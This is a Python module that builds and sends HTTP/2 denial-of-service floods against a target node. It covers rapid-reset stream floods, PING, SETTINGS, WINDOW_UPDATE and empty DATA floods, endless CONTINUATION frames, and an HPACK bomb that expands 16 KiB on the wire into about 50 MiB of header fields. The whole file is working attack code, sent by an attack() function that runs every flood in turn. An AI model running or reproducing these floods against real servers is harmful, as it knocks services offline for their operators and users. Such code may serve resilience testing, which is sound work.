"""Rapid resets, pings, settings, windows, empty frames, heads in pieces and heads that say one long field thousands
of times (HPACK bombs): as many as the other side takes."""
import struct

from frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                    frame, head, opened, send)

# the latest entry of the dynamic table, in one byte (RFC 7541 6.1)
AGAIN = b"\xbe"


def resets():
    for stream in range(1, 40000, 2):
        yield head(stream, "GET", "/") + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def pings():
    return (frame(PING, 0, 0, b"12345678") for _ in range(50000))


def settings():
    return (frame(SETTINGS, 0, 0) for _ in range(50000))


def empty_data():
    yield head(1, "POST", "/auth/login", False)
    yield from (frame(DATA, 0, 1) for _ in range(50000))


def pieces():
    yield frame(HEADERS, 0, 1, b"\0\x01a\x01b")
    yield from (frame(CONTINUATION, 0, 1, b"\0\x01a\x01b" * 200) for _ in range(5000))


def windows():
    yield head(1, "GET", "/", False)
    for _ in range(50000):
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))


def bombs():
    """16 KiB on the wire that are 50 MiB of fields, on a hundred streams."""
    value = b"b" * 3500
    # a literal with incremental indexing; 127 + 3373 in the prefix code of RFC 7541 5.1
    entry = b"\x40\x01a" + b"\x7f" + bytes([3373 % 128 | 128, 3373 // 128]) + value
    get = b"\x82\x86\x84"
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, get + entry)
    for stream in range(3, 203, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, get + AGAIN * 15000)


def attack(node):
    held = []
    for flood in (resets, pings, settings, windows, empty_data, pieces, bombs):
        client = opened(node)
        client.settimeout(2)
        for data in flood():
            if not send(client, data):
                break
        held.append(client)
    return held
